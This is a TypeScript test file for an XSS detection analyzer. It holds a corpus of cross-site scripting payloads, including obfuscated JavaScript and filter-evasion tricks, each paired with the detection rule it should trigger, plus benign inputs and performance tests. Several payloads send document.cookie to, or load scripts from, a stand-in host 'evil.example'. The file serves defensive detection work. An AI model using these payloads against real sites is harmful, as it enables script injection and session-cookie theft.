import { test } from 'node:test'
import assert from 'node:assert/strict'
import { analyzeXss, isScriptUrl } from '../../src/detection/xss/analyzer.js'
import { surest } from './support.js'

const attacks: [string, string][] = [
  ['<script>alert(1)</script>', 'xss-script-tag'],
  ['</script><svg onload=alert(1)>', 'xss-script-tag'],
  ['<svg/onload=alert(1)>', 'xss-event-handler'],
  ['"><img src=x onerror=alert(1)>', 'xss-event-handler'],
  ['<x onpointerenter=alert(1)>hover', 'xss-event-handler'],
  ['<a href="jav&#x09;ascript:alert(1)">', 'xss-event-handler'.replace('event-handler', 'script-url')],
  ['<a href=" javascript:alert(1)">x</a>', 'xss-script-url'],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'xss-script-tag'],
  ['<form><button formaction=javascript:alert(1)>x', 'xss-script-url'],
  ['<div style="width: expression(alert(1))">', 'xss-css'],
  ['javascript:alert(document.cookie)', 'xss-script-url'],
  ['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'xss-script-url'],
  ["'-alert(1)-'", 'xss-js-breakout'],
  ['";alert(1)//', 'xss-js-breakout'],
  ["\\';alert(String.fromCharCode(88,83,83))//", 'xss-js-breakout'],
  // tag reading: namespace prefixes, filler after '<', nested tags, look-alike brackets, UTF-7
  ['<h:script xmlns:h="http://www.w3.org/1999/xhtml">confirm(7)</h:script>', 'xss-script-tag'],
  ['<\u202escript>confirm(7)', 'xss-script-tag'],
  ['<\nscript\n>prompt(2)', 'xss-script-tag'],
  ['<sc<script>ript>prompt(2)</script>', 'xss-script-tag'],
  ['\uff1cscript\uff1eprompt(3)\uff1c/script\uff1e', 'xss-script-tag'],
  ['\u00bciframe src=//evil.example\u00be', 'xss-script-tag'],
  ['+ADw-script+AD4-prompt(4)+ADw-/script+AD4-', 'xss-script-tag'],
  ['<?import namespace="v" implementation="//evil.example/b.htc">', 'xss-script-tag'],
  ['<style type="text/javascript">confirm(5)</style>', 'xss-script-tag'],
  ['<p style="width:exp/**/ression(confirm(5))">', 'xss-css'],
  ['<style>*{background:url("\\6a avascript:confirm(5)")}</style>', 'xss-css'],
  ['<select+onfocus=confirm(8)+autofocus>', 'xss-event-handler'],
  ['<p title="</p><script>prompt(8)</script>">', 'xss-script-tag'],
  ['<v:vmlframe src="//evil.example/f.fml"/>', 'xss-script-tag'],
  ['-moz-binding:url(//evil.example/b.xml#b)', 'xss-css'],
  ['color:red;width:expression(prompt(8))', 'xss-css'],
  ['" onclick="window.onerror=confirm;throw 1" x="', 'xss-event-handler'],
  ["c=document.cookie;location='//evil.example/?'+c", 'xss-js-eval'],
  // prose around a breakout or after a line comment is cover, not context
  ['thanks for the quick reply " onfocus=prompt(1) autofocus="', 'xss-event-handler'],
  ['x contextmenu=x onshow=prompt(1)>right click me please', 'xss-event-handler'],
  ['confirm(1)// nothing to see here, move along', 'xss-js-call'],
  ['https://example.com/?prompt.call(null,1)', 'xss-js-call'],
  ['" onmouseover="document.cookie=1;">', 'xss-event-handler'],
  // handlers injected into an attribute, without a tag of their own
  ['" onfocus="confirm(9)" autofocus="', 'xss-event-handler'],
  ["x' onpointerover=prompt`9` '", 'xss-event-handler'],
  ['1 ONERROR=top.confirm(9)>', 'xss-event-handler'],
  ['probe.png\u0008onload=import(src)>', 'xss-event-handler'],
  ['/page;onfocus=fetch(`//evil.example/`+document.cookie)', 'xss-event-handler'],
  // script URLs inside a longer value
  ['next=javascript:confirm(10)', 'xss-script-url'],
  ['#go,vbscript:msgbox(10)', 'xss-script-url'],
  // JavaScript reading: proof calls, evaluators, obfuscated globals
  ['confirm(11)', 'xss-js-call'],
  ['(prompt)(11)', 'xss-js-call'],
  ['alert.apply(null,[11])', 'xss-js-call'],
  ['confirm`11`', 'xss-js-call'],
  ['[11].forEach(prompt)', 'xss-js-call'],
  ['f=confirm,f(11)', 'xss-js-call'],
  ['"(confirm)(document.domain)', 'xss-js-call'],
  ['eval(location.hash.substr(1))', 'xss-js-eval'],
  ['setTimeout`prompt\x2812\x29`', 'xss-js-eval'],
  ["Function('ret'+'urn 1')()", 'xss-js-eval'],
  ["import('//evil.example/m.js')", 'xss-js-eval'],
  ["$.getScript('//evil.example/g.js')", 'xss-js-eval'],
  ["parent['con'+'firm'](13)", 'xss-js-obfuscation'],
  ['self[/pro/.source+/mpt/.source](13)', 'xss-js-obfuscation'],
  ['top[30302..toString(36)](13)', 'xss-js-obfuscation'],
  ["window['x']['globalEval']('prompt(13)')", 'xss-js-obfuscation'],
  ['[].map.call`${eval}prompt\x2813\x29`', 'xss-js-obfuscation'],
  ["''.sub.constructor.constructor('prompt(13)')()", 'xss-js-obfuscation'],
  ['[]["constructor"]["constructor"]("prompt(13)")()', 'xss-js-obfuscation'],
  ['(!![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]', 'xss-js-obfuscation'],
]

const benign = [
  '<b>bold</b> and <i>italic</i>',
  '<a href="https://example.com/a?b=1">link</a>',
  '<img src="https://cdn.example.com/a.png" alt="cat">',
  'I <3 cats',
  'a < b && c > d',
  'Tom\'s "quote" - ok',
  "x = 'a' + 'b'",
  "It's 5 - 3 = 2",
  '<p>Hello</p><ul><li>one</li></ul>',
  "use the 'onclick' prop",
  "Rock 'n' roll",
  "price: '5' * 2",
  'see https://example.com/docs',
  '<code>const x = 1</code>',
  // prose and code that mention handlers, calls and script URLs
  'Please confirm (by email) that the order shipped',
  'I get an alert(undefined) popup every time I click save on the form',
  'the onclick=handler() attribute in your template is never called by the browser',
  'https://www.google.com/recaptcha/api.js?onload=onloadCallback&render=explicit',
  'https://example.com/widget?x=1&onload=init()',
  'online=true; offline=false',
  'one=(1) two=(2)',
  'print(evens[:5])',
  'list(map(print, rows))',
  "const chart = await import('./chart.js')",
  'setTimeout(() => fn(...args), ms)',
  "button.addEventListener('click', () => {\n  alert('Saved!')\n  form.reset()\n  console.log('done', form.id)\n})",
  'window[handlerName](event)',
  'Never paste javascript: links into the address bar',
  'I love it \u00bc of the time, \u00be of the rest',
  'size \uff1csmall\uff1e',
  "don't say 'alert' in the (subject) line",
  'Fortune+ADw-cookie',
  '<style>body { color: red; }</style>',
  '<p style="color: blue">hi</p>',
  'a regular expression (regex) tutorial',
  "set location = 'Dublin' in your cookie settings page",
  'background: url(/img/hero.png) no-repeat; color: #333',
  "if (confirm('Delete this row?')) form.submit()",
  "why does eval('2 + 2') return 4 here",
  'onChange={e => setName(e.target.value)}',
  'status online=document.hidden',
  'we moved the onboarding=window.open flow to settings page',
]

test('XSS: attacks are found with the right rule', () => {
  for (const [value, rule] of attacks) {
    const f = surest(analyzeXss, value, false)
    assert.ok(f !== null && f.confidence >= 0.8, `missed: ${value} (${f?.rule} ${f?.confidence})`)
    assert.equal(f.rule, rule, value)
  }
})

test('XSS: markdown-ish HTML, prose and code snippets pass at paranoia 1', () => {
  for (const value of benign) {
    const f = surest(analyzeXss, value)
    assert.ok(f === null || f.confidence < 0.8, `${JSON.stringify(value)}: ${f?.rule} ${f?.confidence}`)
  }
})

test('script URLs: schemes as browsers read them', () => {
  assert.ok(isScriptUrl('JaVaScRiPt:alert(1)'))
  assert.ok(isScriptUrl('java\tscript:alert(1)'))
  assert.ok(isScriptUrl('  vbscript:msgbox(1)'))
  assert.ok(!isScriptUrl('https://example.com/javascript:'))
  assert.ok(!isScriptUrl('data:image/png;base64,AAAA'))
})

test('XSS analysis stays linear on long adversarial input', () => {
  const shapes = [
    '<'.repeat(200_000),
    '<a '.repeat(70_000),
    "'-".repeat(100_000),
    '<x on'.repeat(40_000),
    '"\\'.repeat(100_000),
    "'\\".repeat(100_000),
    ' on'.repeat(60_000),
    ' onx='.repeat(40_000),
    ' onload="'.repeat(20_000),
    'top['.repeat(50_000),
    'alert('.repeat(30_000),
    '`${'.repeat(60_000),
    '/*'.repeat(100_000),
    '<style>'.repeat(20_000) + '/*'.repeat(50_000),
    'javascript:'.repeat(20_000),
    '<\t'.repeat(100_000),
    '+ADw-'.repeat(40_000),
    '[]!+'.repeat(50_000),
  ]
  for (const v of shapes) {
    const t = performance.now()
    analyzeXss(v)
    assert.ok(performance.now() - t < 1500, v.slice(0, 5))
  }
})

test('XSS: a short tag glued inside a word is read with the tags stripped, as sanitizers leave it', () => {
  const f = surest(analyzeXss, '"o<x>nmouseover=alert<x>(1)//', false)
  assert.equal(f?.rule, 'xss-event-handler')
  assert.ok(f.confidence >= 0.8)
  for (const ok of ['use a<b>c</b> for bold', 'x<br>y and a<i>b</i>', 'H<sub>2</sub>O(aq) = water', 'List<String> names = new ArrayList<>()']) {
    const g = surest(analyzeXss, ok, false)
    assert.ok(g === null || g.confidence < 0.8, `${ok}: ${g?.rule}`)
  }
})

test('XSS: the Function constructor reached by the same computed key twice, then run; one token a line is no program', () => {
  const payload = '([,O,B,J,E,C,,]=[]+{},[T,R,U,E,F,A,L,S,,,N ]=[!!O]+!O+B.E)[X=C+O+N+S+T+R+U+C+T+O+R][X](A+L+E+R+T+`(1)`)()'
  for (const v of [payload, payload.split('').join('\n'), 'a[c][c]("alert(1)")()']) {
    const f = analyzeXss(v)
    assert.equal(f?.rule, 'xss-js-obfuscation', v.slice(0, 20))
    assert.ok(f.confidence >= 0.8)
  }
  for (const ok of ['handlers[name](event)', 'grid[row][row](x)', 'const f = m[k][j](a)()', 'matrix[i][i] = 1']) {
    const f = analyzeXss(ok)
    assert.ok(f === null || f.confidence < 0.8, ok)
  }
})

test('XSS: out of a JS string then a call of a function named as code blocks; random text with a quote and a call-like run does not', () => {
  for (const value of ["';print()//", `"-window.open('//x')-"`, "'-showModalDialog`1`-'", "';document.body.appendChild(x)//"]) {
    assert.equal(analyzeXss(value)?.rule, 'xss-js-breakout', value)
  }
  // generated passwords (printable ASCII, as a password manager makes them)
  for (const value of ['hk@k(%9"?-drG`hZv YaJ)Jl*d', '.V`R-_2M{mk`^BU3`;4Pk]FJCHK&8K', "Zq'-xJ(3v]"]) {
    assert.equal(analyzeXss(value), null, value)
  }
})
